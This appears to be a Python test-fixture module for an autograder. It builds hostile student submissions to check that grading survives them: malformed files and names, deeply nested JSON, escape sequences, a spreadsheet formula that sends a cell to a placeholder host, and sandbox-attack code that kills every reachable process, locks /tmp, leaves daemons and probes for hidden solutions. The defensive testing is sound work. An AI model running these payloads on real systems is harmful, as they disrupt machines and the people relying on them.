"""A class in which every student is hostile in a different way, beside a few honest students.

Each case is a function that writes one entry of the class folder (usually a
student's folder) and returns the student id the gradebook must hold for it,
or ``None`` when the entry is not a student (the grader must list it as
skipped, with why). It is registered with :func:`case`, which says what the
grade must show:

- ``"full"``: the hostility costs nothing (a strange name, a FIFO beside the
  real notebook): full marks;
- ``"exercises"``: full marks on every exercise (the notebook point may be
  lost: what a function prints changes the notebook's outputs);
- ``"graded"``: the student is graded (never "could not grade"): what is
  damaged costs its own points only, with a reason that contains ``says``;
- ``"skipped"``: not a student; the run, ``status`` and the report list the
  entry with a reason that contains ``says``.

Families (``family``): ``file type`` (FIFOs, sockets, devices, links, sparse
files), ``name`` (long, escape sequences, newlines, bytes that are not UTF-8,
formulas), ``depth`` (JSON and Python nested 100,000 deep, folders too deep),
``size`` (millions of tiny JSON lists, thousands of cells, files or notebooks),
``encoding`` (lone surrogates printed, raised or in the source; UTF-16) and
``types`` (metadata of the wrong types). Sandbox-level hostile students (code
that attacks the worker, the slot or the next student) can be added the same
way: a function that writes a folder with :func:`student_with`.

Examples
--------
>>> built = build_class(Path("class"))                                   # doctest: +SKIP
>>> built["fifo_named_like_the_lesson"]
'fifo_lesson'
"""

import json
import os
import shutil
import socket
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import ordinary_user
from autograder.lessons import cells
from autograder.lessons.notebook_files import canonical_text, read_master
from autograder.lessons.paths import COURSE, PROJECT_ROOT
from support import STUB, THIS_COURSE, build_submission, mistakes

LESSON = THIS_COURSE.catalog.lesson("01")
NOTEBOOK = LESSON.filename
DEEP = 100_000
GRADE_OPTIONS = ("--lessons", "01", "--jobs", "2")  # the notebook stage included


@dataclass(frozen=True)
class Hostile:
    name: str
    family: str
    story: str
    write: Callable  # write(class_dir) -> student id, or None for an entry that is not a student
    expect: str  # "full", "exercises", "graded" or "skipped"
    says: str = ""  # words the reason (problems, lesson reasons, skipped lines) must contain


CASES = []


def case(family, expect, says=""):
    """Register a hostile case (see the module docstring); its docstring is its story."""

    def register(write):
        CASES.append(Hostile(write.__name__, family, (write.__doc__ or "").strip(), write, expect, says))
        return write

    return register


# ------------------------------------------------------------------------------------------ helpers
def student_with(class_dir, student_id, overrides=None, default="reference"):
    """A student folder of lesson 01 (reference answers unless told); returns the folder."""
    return build_submission(Path(class_dir) / student_id, overrides, default=default, lessons=("01",))


def _notebook_json(folder):
    return json.loads((folder / NOTEBOOK).read_text(encoding="utf-8"))


def _write_json(path, data, ensure_ascii=True):
    path.write_text(json.dumps(data, ensure_ascii=ensure_ascii), encoding="utf-8")


def _with_extra_cell(class_dir, student_id, source):
    """A student with the reference answers and one more code cell (not an answer) holding ``source``."""
    folder = student_with(class_dir, student_id)
    data = _notebook_json(folder)
    data["cells"].insert(
        1,
        {"cell_type": "code", "execution_count": None, "id": "extra", "metadata": {}, "outputs": [], "source": source},
    )
    _write_json(folder / NOTEBOOK, data)
    return student_id


def _nested(kind, depth):
    """JSON text of ``depth`` nested lists (``kind="["``) or objects (``"{"``)."""
    return "[" * depth + "]" * depth if kind == "[" else '{"a":' * depth + "0" + "}" * depth


def _with_metadata_text(folder, text, name=NOTEBOOK, cell_level=False):
    """Write ``name`` in ``folder``: the lesson (reference answers) with raw JSON ``text`` as a metadata value."""
    data = _notebook_json(folder)
    target = data["cells"][0]["metadata"] if cell_level else data["metadata"]
    target["hostile"] = "@@HOSTILE@@"
    (folder / name).write_text(json.dumps(data).replace('"@@HOSTILE@@"', text), encoding="utf-8")


# ------------------------------------------------------------------------------------------ honest students
HONEST = {
    "aa_honest_reference": {},
    "mm_honest_mistakes": {
        m.exercise: m.source
        for m in list(mistakes().values())
        if m.exercise in ("rot_z", "compose") and m.kind == "mistake"
    },
    "zz_honest_stubs": None,
}


def build_honest(class_dir):
    """The honest students (the same folders, byte for byte and time for time, in every run)."""
    for student_id, overrides in HONEST.items():
        if overrides is None:
            student_with(class_dir, student_id, default=STUB)
        else:
            student_with(class_dir, student_id, overrides)


# ------------------------------------------------------------------------------------------ file types
@case("file type", "graded", "FIFO")
def fifo_named_like_the_lesson(class_dir):
    """hands in a FIFO named like the lesson notebook: reading it would block the grader forever"""
    folder = Path(class_dir) / "fifo_lesson"
    folder.mkdir()
    os.mkfifo(folder / NOTEBOOK)
    return "fifo_lesson"


@case("file type", "full", "FIFO")
def fifo_beside_the_notebook(class_dir):
    """a right notebook and a FIFO named scratch.ipynb beside it"""
    os.mkfifo(student_with(class_dir, "fifo_beside") / "scratch.ipynb")
    return "fifo_beside"


@case("file type", "full", "socket")
def socket_beside_the_notebook(class_dir):
    """a right notebook and a UNIX socket named chat.ipynb"""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(student_with(class_dir, "socket_beside") / "chat.ipynb"))
    server.close()
    return "socket_beside"


@case("file type", "graded", "not a regular file")
def device_named_like_the_lesson(class_dir):
    """hands in a character device (an endless source of zeros) named like the notebook (a FIFO
    where devices cannot be made)"""
    folder = Path(class_dir) / "device_lesson"
    folder.mkdir()
    try:
        os.mknod(folder / NOTEBOOK, 0o644 | 0o020000, os.makedev(1, 5))
    except OSError:
        os.mkfifo(folder / NOTEBOOK)
    return "device_lesson"


@case("file type", "graded", "symbolic link")
def link_to_an_endless_device(class_dir):
    """the lesson notebook is a symbolic link to /dev/zero"""
    folder = Path(class_dir) / "link_to_zero"
    folder.mkdir()
    (folder / NOTEBOOK).symlink_to("/dev/zero")
    return "link_to_zero"


@case("file type", "graded", "symbolic link")
def link_to_another_students_notebook(class_dir):
    """the lesson notebook is a symbolic link to an honest student's notebook"""
    folder = Path(class_dir) / "link_to_classmate"
    folder.mkdir()
    (folder / NOTEBOOK).symlink_to(Path(class_dir) / "aa_honest_reference" / NOTEBOOK)
    return "link_to_classmate"


@case("file type", "graded", "over the")
def sparse_notebook_of_four_gigabytes(class_dir):
    """the lesson notebook is a sparse file of 4 GiB (reading it whole would take the grader's memory)"""
    folder = Path(class_dir) / "sparse_huge"
    folder.mkdir()
    with open(folder / NOTEBOOK, "wb") as handle:
        handle.truncate(4 * 2**30)
    return "sparse_huge"


@case("file type", "full")
def folder_named_like_the_notebook(class_dir):
    """a folder named 01_frames_and_rotations.ipynb, holding the real notebook"""
    outer = Path(class_dir) / "folder_notebook"
    student_with(outer, NOTEBOOK)
    return "folder_notebook"


@case("file type", "graded")
def notebook_nobody_may_read(class_dir):
    """the lesson notebook has mode 000 and a subfolder too (as an ordinary user the grader cannot
    read them: that lesson and folder say why; as root they are read)"""
    folder = student_with(class_dir, "mode_000")
    locked = folder / "locked"
    locked.mkdir()
    shutil.copy(folder / NOTEBOOK, locked / "copy.ipynb")
    (folder / NOTEBOOK).chmod(0)
    locked.chmod(0)
    return "mode_000"


@case("file type", "graded")
def student_folder_nobody_may_read(class_dir):
    """a student folder of mode 000 (as an ordinary user the grader cannot list it: missing, and says why)"""
    student_with(class_dir, "locked_student").chmod(0)
    return "locked_student"


@case("file type", "skipped", "not a student folder")
def stray_file_at_the_top(class_dir):
    """a file grades.csv at the top of the submissions folder"""
    (Path(class_dir) / "grades.csv").write_text("student_id,score\nmallory,100\n", encoding="utf-8")


@case("file type", "skipped", "FIFO")
def fifo_at_the_top(class_dir):
    """a FIFO at the top of the submissions folder"""
    os.mkfifo(Path(class_dir) / "pipe")


@case("file type", "skipped", "socket")
def socket_at_the_top(class_dir):
    """a UNIX socket at the top of the submissions folder"""
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(Path(class_dir) / "sock"))
    server.close()


@case("file type", "skipped", "symbolic link")
def link_to_a_classmate_at_the_top(class_dir):
    """a student 'folder' that is a symbolic link to an honest student's folder"""
    (Path(class_dir) / "copycat").symlink_to(Path(class_dir) / "aa_honest_reference", target_is_directory=True)


@case("file type", "skipped", "symbolic link")
def dangling_link_at_the_top(class_dir):
    """a symbolic link at the top that points nowhere"""
    (Path(class_dir) / "nowhere").symlink_to("/nonexistent/student")


@case("file type", "skipped", "hidden")
def hidden_student_folder(class_dir):
    """a hidden folder holding a full submission"""
    student_with(class_dir, ".hidden_student")


# ------------------------------------------------------------------------------------------ names
NAMES = [  # (case, student id, story, expect, answers)
    (
        "name_of_250_bytes",
        "L" * 250,
        "a folder name of 250 bytes (a file name made from it plus a suffix would pass NAME_MAX)",
        "full",
        "reference",
    ),
    (
        "two_long_names_that_share_200_characters",
        "S" * 200 + "-one",
        "two long names that differ only at the end: their file names must not collide (this one hands in the "
        "stubs, the other the reference answers)",
        "graded",
        STUB,
    ),
    (
        "the_other_long_name",
        "S" * 200 + "-two",
        "the second of the two long names (a collision would mix the grades up)",
        "full",
        "reference",
    ),
    (
        "multibyte_name_of_254_bytes",
        "é" * 127,
        "127 two-byte characters: every one is escaped in a file name, which then has to be cut",
        "full",
        "reference",
    ),
    (
        "escape_sequences_in_the_name",
        "esc\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
        "a name that clears the instructor's screen, moves the cursor and sets the window title",
        "full",
        "reference",
    ),
    (
        "newline_that_forges_a_row",
        "forger\nzz_victim                 12 ∕ 12  graded",  # "/" cannot be in a name
        "a name whose second line looks like another student's full marks in the grade table",
        "graded",
        STUB,
    ),
    (
        "bytes_that_are_not_utf8",
        os.fsdecode(b"latin\xe9-\xff"),
        "a folder name with bytes that are not UTF-8 (lone surrogates once decoded)",
        "full",
        "reference",
    ),
    (
        "control_and_bidi_characters",
        "ctl\t\r\x7f\u202edesrever\u202c\u200b",
        "tab, carriage return, DEL, a right-to-left override and a zero-width space in the name",
        "full",
        "reference",
    ),
    (
        "spreadsheet_formula_name",
        '=HYPERLINK("http:∕∕x.invalid∕?"&A1,"ok")',
        "a name a spreadsheet would evaluate as a formula",
        "full",
        "reference",
    ),
]


def _named(student_id, story, answers):
    def write(class_dir):
        student_with(class_dir, student_id, default=answers)
        return student_id

    write.__doc__ = story
    return write


for _case_name, _student_id, _story, _expect, _answers in NAMES:
    CASES.append(Hostile(_case_name, "name", _story, _named(_student_id, _story, _answers), _expect))


@case("name", "full", "several notebooks hold lesson 01")
def escape_sequences_in_a_notebook_name(class_dir):
    """the work is in a notebook whose name holds escape sequences, beside the untouched one"""
    folder = student_with(class_dir, "esc_notebook", default=STUB)
    student_with(folder, "sub")
    (folder / "sub" / NOTEBOOK).rename(folder / "\x1b[2J\x1b]0;pwned\x07\nfake line.ipynb")
    (folder / "sub").rmdir()
    return "esc_notebook"


# ------------------------------------------------------------------------------------------ depth
@case("depth", "graded", "nests its JSON")
def lesson_metadata_nested_100000_deep(class_dir):
    """valid JSON: the notebook's metadata is a list nested 100,000 levels deep"""
    _with_metadata_text(student_with(class_dir, "deep_json_lesson"), _nested("[", DEEP))
    return "deep_json_lesson"


@case("depth", "full", "nests its JSON")
def extra_notebook_nested_100000_deep(class_dir):
    """a right lesson notebook, and another notebook whose cell metadata nests objects 100,000 deep"""
    folder = student_with(class_dir, "deep_json_extra")
    _with_metadata_text(folder, _nested("{", DEEP), name="scratch.ipynb", cell_level=True)
    return "deep_json_extra"


@case("depth", "graded", "nests its JSON")
def metadata_nested_900_deep(class_dir):
    """nested just below what Python's JSON parser refuses (so it parses), far above what a notebook needs"""
    _with_metadata_text(student_with(class_dir, "deep_json_900"), _nested("[", 900))
    return "deep_json_900"


@case("depth", "graded")
def answer_nested_100000_deep(class_dir):
    """rot_z returns an expression nested 100,000 deep (the parser gives up): rot_z only is lost"""
    student_with(class_dir, "deep_answer", {"rot_z": "def rot_z(a):\n    return " + "-" * DEEP + "1\n"})
    return "deep_answer"


@case("depth", "full")
def demonstration_cell_nested_100000_deep(class_dir):
    """a cell of its own (not an answer) defines a function whose body is nested 100,000 deep"""
    return _with_extra_cell(class_dir, "deep_demo", "def helper():\n    return x" + ".a" * DEEP + "\n")


@case("depth", "graded", "deeper than 2 folders")
def notebook_four_folders_down_and_200_more(class_dir):
    """the only notebook is four folders down, beside a chain of 200 nested folders"""
    folder = Path(class_dir) / "too_deep"
    student_with(folder / "a" / "b" / "c", "d")
    chain = folder / "chain"
    chain.mkdir(parents=True)
    descriptor = os.open(chain, os.O_RDONLY)
    try:
        for _ in range(200):
            os.mkdir("z", dir_fd=descriptor)
            inner = os.open("z", os.O_RDONLY, dir_fd=descriptor)
            os.close(descriptor)
            descriptor = inner
    finally:
        os.close(descriptor)
    return "too_deep"


# ------------------------------------------------------------------------------------------ size
@case("size", "graded", "JSON lists and objects")
def a_million_tiny_lists(class_dir):
    """3 MB of notebook metadata made of a million empty lists (each costs the parser 56 bytes or more)"""
    _with_metadata_text(student_with(class_dir, "tiny_lists"), "[" + ",".join(["[]"] * 1_000_000) + "]")
    return "tiny_lists"


@case("size", "graded", "JSON values")
def a_million_numbers_and_keys(class_dir):
    """cell metadata of an object with 600,000 keys and a list of 600,000 numbers (each costs the parser
    memory; no bracket to count)"""
    keys = "{" + ",".join(f'"k{i}":0' for i in range(600_000)) + "}"
    _with_metadata_text(
        student_with(class_dir, "many_values"), f"[{keys},[{','.join(['1e9'] * 600_000)}]]", cell_level=True
    )
    return "many_values"


@case("size", "graded", "cells")
def six_thousand_cells(class_dir):
    """the lesson notebook with 6,000 extra empty cells"""
    folder = student_with(class_dir, "many_cells")
    data = _notebook_json(folder)
    data["cells"] += [{"cell_type": "markdown", "id": f"m{i}", "metadata": {}, "source": ""} for i in range(6000)]
    _write_json(folder / NOTEBOOK, data)
    return "many_cells"


@case("size", "full", "entries")
def twelve_thousand_files(class_dir):
    """a right notebook among 12,000 empty files"""
    folder = student_with(class_dir, "many_files")
    for index in range(12_000):
        (folder / f"f{index:05d}.txt").touch()
    return "many_files"


@case("size", "full", "at most 50 notebooks")
def sixty_notebooks(class_dir):
    """the right notebook and 60 copies of the untouched one"""
    folder = student_with(class_dir, "many_notebooks")
    stub = canonical_text(read_master(COURSE / NOTEBOOK))
    for index in range(60):
        (folder / f"n{index:02d}.ipynb").write_text(stub, encoding="utf-8")
    return "many_notebooks"


@case("size", "full")
def a_cell_of_fifteen_megabytes(class_dir):
    """a demonstration cell of 15 MB of Python with a def in it (its tree would take gigabytes)"""
    return _with_extra_cell(class_dir, "huge_cell", "def f():\n" + "    x = 1\n" * 1_500_000)


# ------------------------------------------------------------------------------------------ encoding
@case("encoding", "exercises")
def prints_lone_surrogates(class_dir):
    """rot_z prints text no encoder accepts, then returns the right answer"""
    student_with(
        class_dir,
        "prints_surrogates",
        {
            "rot_z": "def rot_z(a):\n    print('\\ud800\\udfff \\x1b[2J')\n    c, s = np.cos(a), np.sin(a)\n"
            "    return np.array([[c, -s, 0.0], [s, c, 0.0], [0.0, 0.0, 1.0]])\n"
        },
    )
    return "prints_surrogates"


@case("encoding", "graded")
def raises_lone_surrogates(class_dir):
    """rot_x raises an error whose message holds a lone surrogate and escape sequences"""
    student_with(
        class_dir,
        "raises_surrogates",
        {"rot_x": "def rot_x(a):\n    raise ValueError('\\udcff\\x1b[2J\\x1b]0;owned\\x07')\n"},
    )
    return "raises_surrogates"


@case("encoding", "graded")
def lone_surrogate_in_the_source(class_dir):
    """rot_y's answer cell holds a lone surrogate (a valid JSON escape) in a comment"""
    folder = student_with(class_dir, "surrogate_source")
    data = _notebook_json(folder)
    for cell in data["cells"]:
        if cells.grade_id(cell) == "rot_y" and cells.is_answer_cell(cell):
            cell["source"] = "# \ud800\n" + cells.source_text(cell)
    _write_json(folder / NOTEBOOK, data, ensure_ascii=True)
    return "surrogate_source"


@case("encoding", "graded", "not UTF-8")
def notebook_in_utf16(class_dir):
    """the lesson notebook saved as UTF-16"""
    folder = student_with(class_dir, "utf16")
    (folder / NOTEBOOK).write_bytes((folder / NOTEBOOK).read_text(encoding="utf-8").encode("utf-16"))
    return "utf16"


@case("encoding", "full")
def nul_bytes_in_a_cell(class_dir):
    """a demonstration cell with NUL bytes and a def (Python refuses to parse it)"""
    return _with_extra_cell(class_dir, "nul_bytes", "def f():\n    return '\0\0'\n")


# ------------------------------------------------------------------------------------------ types
@case("types", "full")
def metadata_of_the_wrong_types(class_dir):
    """notebook metadata is a list, demonstration cells carry nbgrader metadata that is a string, tags
    that are a number, a grade_id that is an object"""
    folder = student_with(class_dir, "wrong_types")
    data = _notebook_json(folder)
    data["metadata"] = ["not", "an", "object"]
    for cell in data["cells"]:
        if cell["cell_type"] == "markdown":
            cell["metadata"] = {"nbgrader": "yes", "tags": 7}
    data["cells"].insert(
        1,
        {
            "cell_type": "code",
            "execution_count": "x",
            "id": "odd",
            "outputs": {},
            "metadata": {"nbgrader": {"grade_id": {"a": 1}, "solution": [1]}},
            "source": ["def rot_q():\n", "    return 1\n"],
        },
    )
    _write_json(folder / NOTEBOOK, data)
    return "wrong_types"


def commands(base, class_dir, out, mode):
    """``(grade, status, env)``: the commands that grade ``class_dir`` into ``out`` and show its status, as
    ``mode`` (``"root"``: as this process runs; ``"ordinary user"``: as nobody, :mod:`ordinary_user`), with
    a canary cache and a home of their own under ``base``."""
    cache, home = Path(base) / f"cache-{mode}", Path(base) / f"home-{mode}"
    for folder in (out, cache, home):
        Path(folder).mkdir(parents=True, exist_ok=True)
    env = dict(os.environ, AUTOGRADER_CACHE=str(cache), HOME=str(home))
    grade = [sys.executable, "-m", "autograder", "grade", str(class_dir), "--out", str(out), *GRADE_OPTIONS]
    status = [sys.executable, "-m", "autograder", "status", "--out", str(out)]
    if mode == "ordinary user":
        ordinary_user.give_to_ordinary_user(out, cache, home)
        grade, status = (
            ordinary_user.as_ordinary_user(command, reach=[PROJECT_ROOT, base], holds=Path(base) / "holds")
            for command in (grade, status)
        )
    return grade, status, env


def unlock(path):
    """Give back the permissions a case took away (mode 000), so the class can be removed."""
    for _ in range(2):  # the second pass reaches what mode 000 hid from the first
        for root, dirs, files in os.walk(path):
            for name in dirs + files:
                entry = os.path.join(root, name)
                if not os.path.islink(entry):
                    os.chmod(entry, 0o755)


# ------------------------------------------------------------------------------------------ sandbox
# Code that attacks the worker, its feeder, the slot or the next student. Each keeps the reference
# answers (the attack sits in one answer cell, beside the right function), so the honest students
# graded after it in the same warm slot show whether anything of it survived.
def _answer_with(class_dir, student_id, exercise, attack):
    from support import references

    student_with(class_dir, student_id, {exercise: attack + "\n" + references()[exercise]})
    return student_id


@case("sandbox", "exercises")
def leaves_everything_for_the_next_student(class_dir):
    """leaves a detached daemon, System V and POSIX IPC objects, keys in every keyring, a tree 3,000
    folders deep and a locked /tmp for whoever comes next in the slot"""
    return _answer_with(
        class_dir,
        "leaves_things",
        "rot_x",
        """
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.05)
    os._exit(0)
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.shmget(4242, 4096, 0o1666); _libc.msgget(4244, 0o1666); _libc.mq_open(b"/left", 0o100 | 2, 0o666, None)
for _ring in (-4, -5, -3):
    _libc.syscall(248, b"user", b"left", b"x", 1, _ring)
os.makedirs("/tmp/deep", exist_ok=True)
os.chdir("/tmp/deep")
for _ in range(3000):
    os.mkdir("d"); os.chdir("d")
os.chdir("/")
os.chmod("/tmp", 0)
""",
    )


@case("sandbox", "graded", "longer than")
def floods_its_reply_socket(class_dir):
    """rot_y writes 80 MB of '[' straight into every socket it holds, then returns the right answer"""
    from support import references

    source = references()["rot_y"].replace("def rot_y(", "def _rot_y(")
    source += (
        "\nimport os\ndef rot_y(a):\n    for fd in range(3, 64):\n        try:\n"
        "            os.write(fd, b'[' * (80 * 1024 * 1024))\n        except OSError:\n"
        "            pass\n    return _rot_y(a)\n"
    )
    student_with(class_dir, "floods_socket", {"rot_y": source})
    return "floods_socket"


@case("sandbox", "graded", "more than")
def answers_with_six_million_lists(class_dir):
    """rot_z returns six million empty lists (cheap to make, costly to encode and to parse)"""
    student_with(class_dir, "six_million_lists", {"rot_z": "def rot_z(a):\n    return [[]] * 6_000_000\n"})
    return "six_million_lists"


@case("sandbox", "exercises")
def kills_its_feeder_and_everything(class_dir):
    """at load, signals its parent, PID 1 and every process it can reach with SIGKILL and SIGSTOP"""
    return _answer_with(
        class_dir,
        "kills_everything",
        "compose",
        """
import os, signal
for _target in (os.getppid(), 1, -1):
    for _number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(_target, _number)
        except OSError:
            pass
""",
    )


@case("sandbox", "exercises")
def rewrites_the_notebooks_kernel(class_dir):
    """installs an IPython input transformer that would replace every later cell of the notebook stage"""
    return _answer_with(
        class_dir,
        "rewrites_kernel",
        "invert_rotation",
        """
try:
    get_ipython().input_transformers_post.append(lambda lines: ["raise SystemExit\\n"])
except NameError:
    pass
""",
    )


@case("sandbox", "exercises")
def looks_for_what_it_was_not_given(class_dir):
    """rot_x answers right only while the sandbox hides everything it was not given: the hidden suite, the
    masters and the class folder by path, the grader's session and user keyrings, a second network interface"""
    hidden = [str(THIS_COURSE.hidden_suite), str(THIS_COURSE.solutions), str(Path(class_dir).resolve())]
    return _answer_with(
        class_dir,
        "looks_around",
        "rot_x",
        f"""
import ctypes, os
_seen = [path for path in {hidden!r} if os.path.exists(path)]
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
for _ring in (-3, -4, -5):  # KEY_SPEC_SESSION_KEYRING, _USER_, _USER_SESSION_: keyctl(GET_KEYRING_ID, ring, 0)
    if _libc.syscall(250, 0, _ring, 0) > 0:
        _seen.append(f"keyring {{_ring}}")
_seen += [name for name in os.listdir("/sys/class/net") if name != "lo"] if os.path.isdir("/sys/class/net") else []
if _seen:
    raise RuntimeError(f"saw {{_seen}}")
""",
    )


@case("budget", "exercises")
def forges_an_error_for_every_answer(class_dir):
    """every answer cell writes a forged traceback of about 6 MB to stderr and 2 MB to stdout at load, while
    its function loads and answers right: what the grader keeps of it is bounded"""
    from support import references

    flood = (
        "import sys\nsys.stderr.write('Traceback (most recent call last):\\n  RuntimeError: forged\\n' * 120_000)\n"
        "print('x' * 2_000_000)\n"
    )
    student_with(class_dir, "forges_errors", {name: flood + source for name, source in references().items()})
    return "forges_errors"


@case("class reading", "full")
def student_named_submitted(class_dir):
    """a student whose id is `submitted`, with an nbgrader-like tree inside: nobody else vanishes"""
    folder = student_with(class_dir, "submitted")
    (folder / "zed" / "lesson01").mkdir(parents=True)
    shutil.copy(folder / NOTEBOOK, folder / "zed" / "lesson01" / NOTEBOOK)
    return "submitted"


@case("class reading", "full")
def dates_its_own_hand_in(class_dir):
    """in the one-folder-per-student layout, hands in lesson01/timestamp.txt saying 9999-12-31 (and a notebook
    dated by the file system): the file's own time is read, never the student's word"""
    folder = Path(class_dir) / "own_date"
    student_with(folder, "lesson01")
    (folder / "lesson01" / "timestamp.txt").write_text("9999-12-31 23:59:59.999999 UTC", encoding="utf-8")
    return "own_date"


def build_class(class_dir):
    """Write the honest students and every case into ``class_dir``; ``{case name: student id or None}``."""
    class_dir = Path(class_dir)
    class_dir.mkdir(parents=True, exist_ok=True)
    build_honest(class_dir)
    return {hostile.name: hostile.write(class_dir) for hostile in CASES}
